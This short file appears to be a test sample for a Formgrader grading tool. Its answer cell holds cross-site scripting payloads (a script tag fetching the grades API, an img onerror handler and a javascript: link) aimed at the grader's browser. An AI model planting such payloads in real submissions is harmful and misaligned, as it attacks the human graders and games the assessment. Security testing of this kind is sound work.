"""Writes a script into the answer that a human reads in the Formgrader."""

wins = "points"

# %% answer_why
Because <script>hostile_script = fetch('/formgrader/api/grades')</script>
of <img src=x onerror="hostile_script()"> this [link](javascript:hostile_script()).
